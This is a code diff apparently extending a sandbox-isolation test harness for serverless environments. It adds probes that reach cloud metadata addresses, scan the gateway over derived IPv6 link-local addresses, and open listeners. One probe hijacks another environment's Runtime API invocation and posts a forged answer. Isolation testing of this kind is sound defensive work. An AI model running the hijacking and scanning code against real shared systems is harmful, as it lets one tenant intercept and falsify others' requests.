@@ -231,12 +231,120 @@ def attempt(name, event):
         except OSError as e:
             return e.errno == errno.EPERM, err(e.errno)
     if name == "metadata_service":
+        out = []
+        for host in ("169.254.169.254", "fd00:ec2::254"):
+            try:
+                socket.create_connection((host, 80), timeout=1).close()
+                out.append(f"{host} CONNECTED")
+            except OSError as e:
+                out.append(f"{host} {type(e).__name__}")
+        return not any("CONNECTED" in o for o in out), "; ".join(out)
+    if name == "reach":
+        # Tries every target (host, port) plus, with `gateway`, the host's
+        # side of this environment's link over IPv4 and over IPv6 link-local
+        # (derived from the gateway's MAC, EUI-64), and the metadata addresses.
+        targets = [tuple(t) for t in event.get("targets", [])]
+        if event.get("gateway"):
+            gw = gateway_v4()
+            if gw:
+                targets += [(gw, p) for p in event.get("gateway_ports", [])]
+                mac = mac_of(gw)
+                if mac:
+                    targets += [(f"{eui64_link_local(mac)}%eth0", p) for p in event.get("gateway_ports", [])]
+            targets += [("169.254.169.254", 80), ("fd00:ec2::254", 80)]
+        results = {}
+        for host, port in targets:
+            started = time.monotonic()
+            try:
+                with socket.create_connection((host, port), timeout=2) as c:
+                    c.settimeout(2)
+                    try:
+                        data = c.recv(200).decode(errors="replace")
+                    except OSError:
+                        data = ""
+                results[f"{host}:{port}"] = f"CONNECTED {data}".strip()
+            except OSError as e:
+                results[f"{host}:{port}"] = f"{type(e).__name__} after {time.monotonic() - started:.1f} s"
+        return not any(r.startswith("CONNECTED") for r in results.values()), \
+            {"results": results, "ipv6": own_ipv6(), "uid": os.getuid()}
+    if name == "listen":
+        # A neighbour: a server on every address of this environment, kept
+        # for as long as the environment lives; reports its addresses.
+        global NEIGHBOUR
+        if NEIGHBOUR is None:
+            NEIGHBOUR = []
+            for family, addr in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
+                try:
+                    s = socket.socket(family)
+                    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+                    s.bind((addr, 8080))
+                    s.listen(64)
+                    NEIGHBOUR.append(s)
+                except OSError:
+                    pass
+        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        probe.connect(("192.0.2.1", 9))  # no packet: only picks the source address
+        return True, {"ipv4": probe.getsockname()[0], "ipv6": own_ipv6()}
+    if name == "steal_runtime_api":
+        # Another environment's Runtime API (host mode shares the loopback):
+        # take its next invocation and answer it with a forged result.
+        import http.client
+        host, port = event["api"].rsplit(":", 1)
         try:
-            socket.create_connection(("169.254.169.254", 80), timeout=1).close()
-            return False, "reached 169.254.169.254"
-        except OSError as e:
-            return True, type(e).__name__
+            c = http.client.HTTPConnection(host, int(port), timeout=event.get("wait", 8))
+            c.request("GET", "/2018-06-01/runtime/invocation/next")
+            r = c.getresponse()
+            payload = r.read().decode(errors="replace")
+            request_id = r.getheader("lambda-runtime-aws-request-id")
+            c.request("POST", f"/2018-06-01/runtime/invocation/{request_id}/response", b'{"forged": true}')
+            posted = c.getresponse().status
+            return False, f"took {request_id} ({payload[:100]}); forged answer got {posted}"
+        except (OSError, http.client.HTTPException) as e:
+            return True, f"{type(e).__name__}: {e}"
     raise ValueError(f"unknown attempt {name}")
+
+
+NEIGHBOUR = None
+
+
+def own_ipv6():
+    """This environment's IPv6 addresses, by interface."""
+    try:
+        rows = open("/proc/net/if_inet6").read().split("\n")
+    except OSError:
+        return []
+    return sorted(f"{r.split()[5]}:{r.split()[0]}" for r in rows if r.strip())
+
+
+def gateway_v4():
+    try:
+        route = open("/proc/net/route").read().split("\n")[1].split()[2]
+        return ".".join(str(int(route[i:i + 2], 16)) for i in (6, 4, 2, 0))
+    except (OSError, IndexError, ValueError):
+        return None
+
+
+def mac_of(ip):
+    """The MAC of a neighbour, from the ARP table (resolved by a datagram first)."""
+    try:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(b"x", (ip, 9))
+    except OSError:
+        pass
+    for _ in range(50):
+        for row in open("/proc/net/arp").read().split("\n")[1:]:
+            cols = row.split()
+            if cols and cols[0] == ip and cols[3] != "00:00:00:00:00:00":
+                return cols[3]
+        time.sleep(0.02)
+    return None
+
+
+def eui64_link_local(mac):
+    b = [int(x, 16) for x in mac.split(":")]
+    b[0] ^= 2
+    words = [(b[0] << 8) | b[1], (b[2] << 8) | 0xFF, 0xFE00 | b[3], (b[4] << 8) | b[5]]
+    return "fe80::" + ":".join(f"{w:x}" for w in words)
 
 
 def handler(event, context):
